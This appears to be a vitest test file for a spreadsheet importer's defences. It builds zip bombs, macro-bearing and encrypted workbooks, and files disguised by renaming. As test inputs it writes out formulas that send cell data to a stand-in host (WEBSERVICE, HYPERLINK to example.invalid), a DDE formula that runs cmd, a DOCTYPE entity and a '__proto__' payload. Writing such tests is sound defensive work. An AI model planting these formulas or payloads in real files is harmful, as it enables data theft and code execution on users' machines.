import { CFB, type CellObject, utils, write } from '@e965/xlsx'
import { strToU8, zipSync } from 'fflate'
import { expect, it } from 'vitest'
import { parseInWorker } from '#core/imports/parseInWorker.ts'
import { readWorkbook } from '#core/imports/readWorkbook.ts'
import { refuseByRecords } from '#core/imports/xlsParts.ts'
import { AppError } from '#shared/contract/errors.ts'
import { partText, personRow, rosterWorkbook, withParts, workbook } from './workbooks.ts'

const worker = new URL('../../../electron/core/imports/parseWorker.ts', import.meta.url)
const sheetPart = 'xl/worksheets/sheet1.xml'
const plain = rosterWorkbook([personRow(1)])

function refusalOf(bytes: Uint8Array): { readonly code: string; readonly messageZh: string } {
  try {
    readWorkbook(bytes)
  } catch (error) {
    if (error instanceof AppError) return { code: error.code, messageZh: error.messageZh ?? '' }
    throw error
  }
  throw new Error('the file was read')
}

function withFormula(formula: string, value?: string): Uint8Array {
  const cell: CellObject = value === undefined ? { t: 'n', f: formula } : { t: 's', v: value, f: formula }
  return workbook({
    花名册: {
      rows: [
        ['姓名', '身份证号'],
        [cell, 'x'],
      ],
    },
  })
}

function compound(streams: Readonly<Record<string, string>>): Uint8Array {
  const file = CFB.utils.cfb_new()
  for (const [path, content] of Object.entries(streams)) CFB.utils.cfb_add(file, path, Buffer.from(content))
  return new Uint8Array(CFB.write(file, { type: 'buffer' }))
}

/** Central directory entry of a part: where its sizes stand. */
function directoryEntry(bytes: Uint8Array, name: string): number {
  const at = Buffer.from(bytes).lastIndexOf(name)
  return at - 46
}

it('refuses a zip bomb by its directory, before a byte of it is inflated', () => {
  const bomb = withParts(plain, { [sheetPart]: new Uint8Array(40 * 1024 * 1024).fill(0x20) })
  expect(bomb.length).toBeLessThan(200_000)
  const started = performance.now()
  expect(refusalOf(bomb)).toMatchObject({ code: 'FILE_TOO_LARGE' })
  expect(performance.now() - started).toBeLessThan(200)
})

it('refuses a directory that declares gigabytes, and one that declares less than there is', () => {
  const claims = Uint8Array.from(plain)
  new DataView(claims.buffer).setUint32(directoryEntry(claims, sheetPart) + 24, 0x7fffffff, true)
  expect(refusalOf(claims)).toMatchObject({ code: 'FILE_TOO_LARGE' })
  const lies = withParts(plain, { [sheetPart]: new Uint8Array(40 * 1024 * 1024).fill(0x20) })
  new DataView(lies.buffer, lies.byteOffset).setUint32(directoryEntry(lies, sheetPart) + 24, 1000, true)
  expect(refusalOf(lies)).toMatchObject({ code: 'FILE_TOO_LARGE' })
})

it('refuses an archive of very many parts', () => {
  const parts = Object.fromEntries(
    Array.from({ length: 6000 }, (_, index) => [`xl/${index}.xml`, strToU8('<x/>')]),
  )
  expect(refusalOf(zipSync(parts, { level: 0 }))).toMatchObject({ code: 'FILE_TOO_LARGE' })
})

it('does not believe a claimed dimension: the cells that are there are counted', () => {
  const xml = partText(plain, sheetPart).replace(/<dimension ref="[^"]*"/, '<dimension ref="A1:XFD1048576"')
  expect(xml).toContain('XFD1048576')
  const started = performance.now()
  const grid = readWorkbook(withParts(plain, { [sheetPart]: xml }))
  expect(grid.sheets[0]?.rows).toHaveLength(2)
  expect(performance.now() - started).toBeLessThan(1000)
})

it('says where a stray cell far away is instead of making room for it', () => {
  const far = (ref: string, row: number) =>
    partText(plain, sheetPart).replace(
      '</sheetData>',
      `<row r="${row}"><c r="${ref}" t="inlineStr"><is><t>x</t></is></c></row></sheetData>`,
    )
  expect(refusalOf(withParts(plain, { [sheetPart]: far('XFD9', 9) })).messageZh).toContain('XFD9')
  expect(refusalOf(withParts(plain, { [sheetPart]: far('A1048576', 1_048_576) })).messageZh).toContain(
    '200000 行',
  )
})

it('refuses macros, links to other files and data connections, each with how to save without', () => {
  expect(refusalOf(withParts(plain, { 'xl/vbaProject.bin': 'x' })).messageZh).toContain('宏')
  const types = partText(plain, '[Content_Types].xml').replace(
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
    'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
  )
  expect(refusalOf(withParts(plain, { '[Content_Types].xml': types })).messageZh).toContain('宏')
  expect(refusalOf(withParts(plain, { 'xl/externalLinks/externalLink1.xml': '<x/>' })).messageZh).toContain(
    '断开链接',
  )
  expect(refusalOf(withParts(plain, { 'xl/connections.xml': '<x/>' })).messageZh).toContain('外部数据')
})

it.each([
  'WEBSERVICE("http://example.invalid/"&A1)',
  'HYPERLINK("http://example.invalid/?"&A1,"x")',
  "cmd|'/C calc'!A0",
  "'[1]Sheet1'!A1",
  '[2]Sheet1!$A$1+1',
  "'C:\\data\\[other.xlsx]Sheet1'!A1",
  'RTD("server","","topic")',
])('refuses a formula that reaches outside: %s', (formula) => {
  expect(refusalOf(withFormula(formula, 'x'))).toMatchObject({ code: 'FILE_REFUSED' })
  expect(refusalOf(withFormula(formula, 'x')).messageZh).toContain('花名册!A2')
})

it('reads what a plain formula has stored and computes nothing', () => {
  const [, row] = readWorkbook(withFormula('CONCATENATE("张","三|四!")', '张三')).sheets[0]?.rows ?? []
  expect(row?.[0]).toEqual({ kind: 'text', text: '张三', isFormula: true })
  const bare = partText(plain, sheetPart).replace(
    '</sheetData>',
    '<row r="9"><c r="B9"><f>1+1</f></c></row></sheetData>',
  )
  const empty = readWorkbook(withParts(plain, { [sheetPart]: bare })).sheets[0]?.rows[8]
  expect(empty?.[1]).toEqual({ kind: 'unread', text: '', isFormula: true })
})

it('refuses a renamed .docx, .pptx, .ods, .xlsb, plain zip, PDF, web page and RTF by what they are', () => {
  const zip = (...names: readonly string[]) =>
    zipSync(Object.fromEntries(names.map((name) => [name, strToU8('<x/>')])))
  expect(refusalOf(zip('[Content_Types].xml', 'word/document.xml')).messageZh).toContain('Word')
  expect(refusalOf(zip('[Content_Types].xml', 'ppt/presentation.xml')).messageZh).toContain('演示文稿')
  expect(refusalOf(zip('mimetype', 'content.xml')).messageZh).toContain('.ods')
  expect(refusalOf(zip('[Content_Types].xml', 'xl/workbook.bin')).messageZh).toContain('.xlsb')
  expect(refusalOf(zip('照片/1.jpg')).messageZh).toContain('压缩包')
  expect(refusalOf(strToU8('%PDF-1.7 x')).messageZh).toContain('PDF')
  expect(refusalOf(strToU8('<html><table><tr><td>姓名</td></tr></table></html>')).messageZh).toContain('网页')
  expect(refusalOf(strToU8('<?xml version="1.0"?><Workbook/>')).messageZh).toContain('网页')
  expect(refusalOf(strToU8('{\\rtf1 x}')).messageZh).toContain('Word')
  expect(refusalOf(Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13, 0xff)).messageZh).toContain('不是表格')
  expect(refusalOf(new Uint8Array(0)).messageZh).toContain('空')
})

it('refuses encrypted workbooks, old Word files and macros in the compound format', () => {
  const encrypted = compound({ '/EncryptionInfo': 'x', '/EncryptedPackage': 'y' })
  expect(refusalOf(encrypted).messageZh).toContain('密码')
  expect(refusalOf(compound({ '/WordDocument': 'x' })).messageZh).toContain('.doc')
  const xls = CFB.read(Buffer.from(rosterWorkbook([personRow(1)], 'xls')), { type: 'buffer' })
  CFB.utils.cfb_add(xls, '/_VBA_PROJECT_CUR/VBA/dir', Buffer.from('x'))
  expect(refusalOf(new Uint8Array(CFB.write(xls, { type: 'buffer' }))).messageZh).toContain('宏')
})

/** BOF, one record, EOF: what the records of a workbook stream are judged by. */
function stream(type: number, body: readonly number[]): Uint8Array {
  const record = (kind: number, content: readonly number[]) => [
    kind & 0xff,
    kind >> 8,
    content.length,
    0,
    ...content,
  ]
  return Uint8Array.from([...record(0x809, [0, 6, 5, 0]), ...record(type, body), ...record(0x0a, [])])
}

it('refuses a password, links to other files and macro sheets inside an .xls, not its links to itself', () => {
  const check = (bytes: Uint8Array) => () => refuseByRecords(bytes)
  expect(check(stream(0x2f, [1, 0, 1, 0, 1, 0]))).toThrow('encrypted')
  expect(check(stream(0x1ae, [1, 0, 5, 0, 0, 97, 46, 120, 108]))).toThrow('external')
  expect(check(stream(0x85, [0, 0, 0, 0, 0, 1, 1, 0, 65]))).toThrow('macros')
  expect(check(stream(0x1ae, [1, 0, 1, 4]))).not.toThrow()
  expect(check(stream(0x85, [0, 0, 0, 0, 0, 0, 1, 0, 65]))).not.toThrow()
})

it('refuses a DOCTYPE, and keeps comments, drawings and properties away from the parser', () => {
  const doctype = `<!DOCTYPE x [<!ENTITY a "b">]>${partText(plain, sheetPart)}`
  expect(refusalOf(withParts(plain, { [sheetPart]: doctype })).messageZh).toContain('DOCTYPE')
  const poisoned = withParts(plain, {
    'xl/comments1.xml': '<comments><commentList><comment ref="__proto__"/></commentList></comments>',
    'xl/worksheets/_rels/sheet1.xml.rels':
      '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" Target="../comments1.xml"/></Relationships>',
    'docProps/core.xml': '<broken',
  })
  expect(readWorkbook(poisoned).sheets[0]?.rows).toHaveLength(2)
  expect(Object.keys(Object.prototype)).toEqual([])
})

it('calls a truncated or scrambled file damaged', () => {
  expect(refusalOf(plain.slice(0, plain.length - 200))).toMatchObject({ code: 'FILE_UNREADABLE' })
  const cut = partText(plain, sheetPart).slice(0, -40)
  expect(refusalOf(withParts(plain, { [sheetPart]: cut }))).toMatchObject({ code: 'FILE_UNREADABLE' })
  const flipped = Uint8Array.from(plain)
  const middle = Buffer.from(plain).indexOf(sheetPart) + 200
  flipped[middle] = (flipped[middle] ?? 0) ^ 1
  expect(refusalOf(flipped)).toMatchObject({ code: 'FILE_UNREADABLE' })
  const xls = rosterWorkbook([personRow(1)], 'xls')
  expect(refusalOf(xls.slice(0, 600))).toMatchObject({ code: 'FILE_UNREADABLE' })
})

it('says so when a workbook needs more memory than the worker may have, and when it takes too long', async () => {
  const rows = Array.from({ length: 20_000 }, (_, row) =>
    Array.from({ length: 30 }, (_, column) => `r${row}c${column}`),
  )
  const book = utils.book_new()
  utils.book_append_sheet(book, utils.aoa_to_sheet(rows), '大')
  const bytes = new Uint8Array(write(book, { type: 'buffer', bookType: 'xlsx', compression: true }))
  const signal = new AbortController().signal
  await expect(parseInWorker(worker, bytes, signal, { timeMs: 30_000, heapMb: 48 })).rejects.toMatchObject({
    code: 'FILE_TOO_LARGE',
    messageZh: expect.stringContaining('内存'),
  })
  await expect(parseInWorker(worker, bytes, signal, { timeMs: 60, heapMb: 512 })).rejects.toMatchObject({
    code: 'FILE_TOO_LARGE',
    messageZh: expect.stringContaining('用时过长'),
  })
})

it('stops parsing when the user cancels', async () => {
  const controller = new AbortController()
  const parsing = parseInWorker(worker, plain, controller.signal)
  controller.abort()
  await expect(parsing).rejects.toMatchObject({ code: 'CANCELLED' })
})

it('hands refusals out of the worker with their sentence', async () => {
  const signal = new AbortController().signal
  await expect(parseInWorker(worker, strToU8('%PDF-1.7'), signal)).rejects.toMatchObject({
    code: 'FILE_REFUSED',
    messageZh: expect.stringContaining('PDF'),
  })
  expect((await parseInWorker(worker, plain, signal)).sheets[0]?.rows).toHaveLength(2)
})
